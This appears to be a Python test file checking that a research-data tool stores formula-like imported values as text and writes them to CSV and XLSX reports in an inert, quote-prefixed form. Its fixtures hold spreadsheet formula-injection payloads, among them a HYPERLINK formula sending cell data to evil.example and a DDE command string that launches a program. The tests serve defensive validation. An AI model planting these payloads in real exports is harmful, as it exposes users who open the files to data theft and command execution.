"""Formula-looking values in imported findings are stored as text and come out inert (issue 13 item 10)."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import polars as pl

from synthesis.exchange import import_file
from synthesis.inert import inert_csv_value, inert_frame, looks_like_formula, write_csv_rows
from synthesis.report import write_report
from warehouse.store import Store

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
SUMMARIES = {"fbs": HYPERLINK, "sat": "+1+1", "leap": "-2+3", "coda": "@SUM(A1:A9)"}
THEME = "=cmd|' /C calc'!A0"
CODE_NAME = "\tTab-led code"


def _qdc(path: Path) -> Path:
    path.write_text(f"""<?xml version="1.0" encoding="utf-8"?>
<CodeBook xmlns="urn:QDA-XML:codebook:1.0" origin="test"><Codes>
<Code guid="AAAAAAAA-1111-4111-8111-000000000009" name="{CODE_NAME}" isCodable="true"/>
</Codes></CodeBook>""", encoding="utf-8")
    return path


def _framework_csv(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["site_id", "theme", "summary", "analyst"])
        for site, summary in SUMMARIES.items():
            w.writerow([site, THEME, summary, "=A1"])
    return path


def _framework_xlsx(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "framework"
    ws.append(["site_id", "theme", "summary"])
    ws.append(["fbs", "Holding data", "=1+1"])        # a real formula cell, as a spreadsheet keeps it
    wb.save(path)
    return path


def test_values_are_stored_exactly_as_delivered(tmp_path: Path) -> None:
    store = Store(tmp_path / "w.duckdb")
    import_file(_framework_csv(tmp_path / "framework.csv"), store)
    import_file(_framework_xlsx(tmp_path / "book.xlsx"), store)
    with store.reader() as con:
        rows = dict(con.execute("SELECT f.case_id || ':' || t.name, f.summary FROM syn_framework_cell f "
                                "JOIN syn_theme t USING (theme_id)").fetchall())
    assert {k: v for k, v in rows.items() if k.endswith(THEME)} == {f"{s}:{THEME}": v for s, v in SUMMARIES.items()}
    assert rows["fbs:Holding data"] == "=1+1"          # the formula text, not a computed 2


def _loaded(tmp_path: Path) -> Store:
    store = Store(tmp_path / "w.duckdb")
    import_file(_qdc(tmp_path / "book.qdc"), store)
    import_file(_framework_csv(tmp_path / "framework.csv"), store)
    return store


def test_csv_report_prefixes_every_formula_looking_cell(tmp_path: Path) -> None:
    out = Path(write_report(_loaded(tmp_path), "csv", tmp_path / "csv"))
    cells = []
    for f in out.glob("*.csv"):
        with f.open(encoding="utf-8", newline="") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert cells, "the report wrote no cells"
    assert not [c for c in cells if looks_like_formula(c)]
    for value in [*SUMMARIES.values(), THEME]:
        assert "'" + value in cells


def test_xlsx_report_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    path = Path(write_report(_loaded(tmp_path), "xlsx", tmp_path / "r.xlsx"))
    with zipfile.ZipFile(path) as zf:
        sheets = [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)     # no formula element anywhere
    wb = openpyxl.load_workbook(path)
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and looks_like_formula(c.value):
                    seen[c.value] = (c.data_type, c.quotePrefix)
    for value in [*SUMMARIES.values(), THEME]:
        assert seen[value] == ("s", True), value       # exact text, string type, quote prefix


def test_helpers() -> None:
    assert [inert_csv_value(v) for v in ("=1", "+1+1", "-2+3", "@a", "\tx", "\rx", "a=1", "", 7, "-0.05")] == \
        ["'=1", "'+1+1", "'-2+3", "'@a", "'\tx", "'\rx", "a=1", "", 7, "-0.05"]   # plain numbers stay numbers
    df = inert_frame(pl.DataFrame({"t": ["=x", "ok", None], "n": [1, 2, 3]}))
    assert df.to_dict(as_series=False) == {"t": ["'=x", "ok", None], "n": [1, 2, 3]}


def test_csv_rows_writer(tmp_path: Path) -> None:
    path = write_csv_rows(tmp_path / "log.csv", ["document_id", "n"], [["=evil.txt", 2]])
    assert path.read_text(encoding="utf-8").splitlines() == ["document_id,n", "'=evil.txt,2"]
